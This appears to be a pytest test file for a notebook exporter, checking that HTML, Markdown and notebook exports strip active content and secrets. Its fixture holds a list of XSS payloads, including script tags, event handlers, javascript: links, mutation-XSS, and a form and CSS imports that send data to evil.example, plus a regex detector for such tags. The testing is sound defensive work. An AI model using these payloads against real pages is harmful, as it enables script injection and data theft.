"""What is passed on holds the words of a session and nothing that acts, whoever wrote the cells."""

import base64
import json
import re
import zlib
from html import unescape
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from archnb.cli import main
from archnb.errors import CellError
from archnb.session.export import FORMS, export, read_notebook

JS = "window.hit=1"
TAGS = [
    f"<script>{JS}</script>",
    f"<img src=x onerror={JS}>",
    '<img src="https://evil.example/?d=1">',
    f'<svg onload="{JS}"></svg>',
    "<style>@import url(https://evil.example/)</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/)">over</div>',
    '<button class="jupyter-button archnb-approve">Approve</button>',
    '<form action="https://evil.example"><input name="key"></form>',
    '<iframe srcdoc="x"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    '<a href="javascript:window.hit=1" data-commandlinker-command="x">run</a>',
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "[click](javascript:window.hit=1) ![x](https://evil.example/p.png) ![y][r]\n\n[r]: //evil.example/q",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
]
HOSTILE = "\n\n".join(["plain words stay", *TAGS])
PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00:~\x9bU"
     b"\x00\x00\x00\nIDAT" + zlib.compress(b"\0\0") + b"\x00\x00\x00\x00IEND\xaeB`\x82"
).decode()  # fmt: skip
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script></svg>'
KEY = "sk-ant-" + "api03-" + "Ab3dEf9hIj" * 9
WIDGET = "application/vnd.jupyter.widget-view+json"


def shown(**data):
    return new_output(
        "display_data", data={key.replace("__", "/"): each for key, each in data.items()}
    )


@pytest.fixture
def notebook(tmp_path, monkeypatch):
    """A session's notebook with foreign cells between its own."""
    monkeypatch.setenv("SHOP_API_KEY", "k-2f7d91c0aa55")
    table = '<style scoped>.dataframe{x:y}</style><table border="1" class="dataframe"><tr style="text-align: right;"><th>total</th></tr></table>'
    outputs = [
        shown(text__html=HOSTILE, text__plain=HOSTILE),
        shown(text__markdown=HOSTILE),
        shown(text__html=table),
        shown(application__javascript=JS, text__plain="after"),
        shown(**{WIDGET.replace("/", "__"): {"model_id": "x"}}),
        shown(**{"image__svg+xml": SVG}),
        shown(**{"image__svg+xml": SVG, "image__png": PNG, "text__plain": "a diagram"}),
        shown(image__png=base64.b64encode(f"<script>{JS}</script>".encode()).decode()),
        shown(text__latex="$$x$$", text__plain="a formula"),
        new_output(
            "stream", name="stdout", text=f"\x1b[31mred\x1b[0m \x1b[2J {HOSTILE} k-2f7d91c0aa55"
        ),
        new_output(
            "error", ename="<script>", evalue=HOSTILE, traceback=[f"\x1b[0;31m{HOSTILE} {KEY}"]
        ),
    ]
    attached = new_markdown_cell("![pic](attachment:a.png) and ![no](attachment:b.svg)")
    attached.attachments = {"a.png": {"image/png": PNG}, "b.svg": {"image/svg+xml": SVG}}
    cells = [
        new_markdown_cell(HOSTILE),
        attached,
        new_raw_cell(HOSTILE, metadata={"raw_mimetype": "text/html"}),
        new_code_cell(
            HOSTILE,
            outputs=outputs,
            execution_count=7,
            metadata={
                "tags": [f'"><script>{JS}</script>'],
                "archnb": {"approved": True},
                "execution": {"iopub.execute_input": "2026-01-02T03:04:05.0Z"},
            },
        ),
    ]
    content = new_notebook(
        cells=cells,
        metadata={
            "title": f"</title><script>{JS}</script>",
            "language_info": {"name": f'"><script>{JS}</script>'},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}},
        },
    )
    path = tmp_path / "session.ipynb"
    path.write_text(json.dumps(content), "utf-8")
    return path


def active(page):
    """What in a page could act, or be fetched."""
    tags = re.findall(r"<[a-zA-Z!/][^>]*>", page)
    bad = (
        r"<\s*(script|form|button|input|iframe|object|embed|svg|base|link|textarea|select|frame)\b"
    )
    found = [tag for tag in tags if re.match(bad, tag, re.IGNORECASE)]
    found += [tag for tag in tags if re.search(r"""["'\s]on\w+\s*=""", tag, re.IGNORECASE)]
    found += [
        tag for tag in tags if re.search(r"=\s*[\"']?\s*(javascript|vbscript):", tag, re.IGNORECASE)
    ]
    found += [
        tag for tag in tags if re.match(r"<img\b", tag) and re.search(r'src="(?!data:image/)', tag)
    ]
    found += [tag for tag in tags if re.search(r'style="[^"]*(url\(|position|@import)', tag)]
    found += [tag for tag in tags if tag.startswith("<meta") and "refresh" in tag]
    return found + re.findall(
        r"@import[^;]*|url\(\s*['\"]?(?:https?:)?//[^)]*\)",
        "".join(re.findall(r"<style[^>]*>(.*?)</style>", page, re.DOTALL)),
    )


@pytest.mark.parametrize("form", FORMS)
def test_the_words_stay_and_nothing_acts(notebook, form):
    """o142, o187."""
    written = export(notebook, form)
    text = written.read_text("utf-8")
    words = unescape(text)
    for said in ("plain words stay", "after", "a diagram", "a formula", "total", "red", "left out"):
        assert said in words, said
    for secret in (KEY, "k-2f7d91c0aa55"):
        assert secret not in text
    assert WIDGET not in re.sub(r"left out: [^)]*\)", "", text)
    assert "\x1b" not in text
    assert "\\u001b" not in text
    assert written != notebook


def test_the_page_holds_nothing_active_and_fetches_nothing(notebook):
    page = export(notebook, "html").read_text("utf-8")
    assert active(page) == []
    assert "Content-Security-Policy" in page
    assert "default-src 'none'" in page
    assert page.index("Content-Security-Policy") < page.index("<style")
    assert page.count('src="data:image/') >= 3  # the attachment, the drawings
    assert "evil.example" not in "".join(re.findall(r'<\w[^>]*src="[^"]*"', page))


@pytest.mark.filterwarnings("ignore")
def test_the_detector_finds_what_the_untouched_notebook_would_give(notebook):
    from nbconvert import HTMLExporter

    page, _ = HTMLExporter(template_name="lab").from_filename(str(notebook))
    assert len(active(page)) > 20


def test_markdown_is_inert_for_whoever_renders_it(notebook):
    from markdown_it import MarkdownIt

    text = export(notebook, "md").read_text("utf-8")
    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert active(page) == []
    assert "![pic](data:image/png;base64," in text
    assert "![picture](data:image/png;base64," in text


def test_the_notebook_keeps_its_times_and_nothing_that_has_authority(notebook):
    before = notebook.read_bytes()
    clean = nbformat.read(export(notebook, "ipynb"), as_version=4)
    nbformat.validate(clean)
    assert notebook.read_bytes() == before
    code = clean.cells[3]
    assert code.execution_count == 7
    assert code.metadata == {"execution": {"iopub.execute_input": "2026-01-02T03:04:05.0Z"}}
    assert set(clean.metadata) == {"kernelspec", "language_info"}
    bundles = [output.data for output in code.outputs if "data" in output]
    assert {mime for bundle in bundles for mime in bundle} <= {
        "text/plain",
        "text/html",
        "image/png",
    }
    for bundle in bundles:
        assert active(bundle.get("text/html", "")) == []


def test_it_never_takes_the_place_of_the_notebook(notebook):
    with pytest.raises(CellError, match="the notebook itself"):
        export(notebook, "ipynb", notebook)


BROKEN = [
    "",
    "[]",
    "{}",
    '{"nbformat": 4}',
    '{"nbformat": 4, "cells": 3, "metadata": {}, "nbformat_minor": 5}',
]


@pytest.mark.parametrize("text", BROKEN)
def test_what_is_no_notebook_is_one_sentence(tmp_path, text):
    (tmp_path / "x.ipynb").write_text(text)
    with pytest.raises(CellError, match="is not a notebook"):
        export(tmp_path / "x.ipynb", "html")


@pytest.mark.parametrize("ids", [(None, None), ("same", "same"), ("a b", "<script>")])
def test_ids_that_are_missing_or_stand_twice(notebook, ids):
    """o181: real files."""
    content = json.loads(notebook.read_text("utf-8"))
    for cell, name in zip(content["cells"], ids, strict=False):
        cell.pop("id")
        if name:
            cell["id"] = name
    notebook.write_text(json.dumps(content), "utf-8")
    names = [cell.id for cell in read_notebook(notebook).cells]
    assert len(set(names)) == len(names) == 4
    for form in FORMS:
        export(notebook, form)


def test_the_command(notebook, capsys):
    with pytest.raises(SystemExit) as ended:
        main(["export", str(notebook), "--to", "md", "-o", str(notebook.parent / "out" / "x.md")])
    assert ended.value.code == 0
    assert Path(capsys.readouterr().out.strip()).read_text("utf-8").startswith("plain words stay")
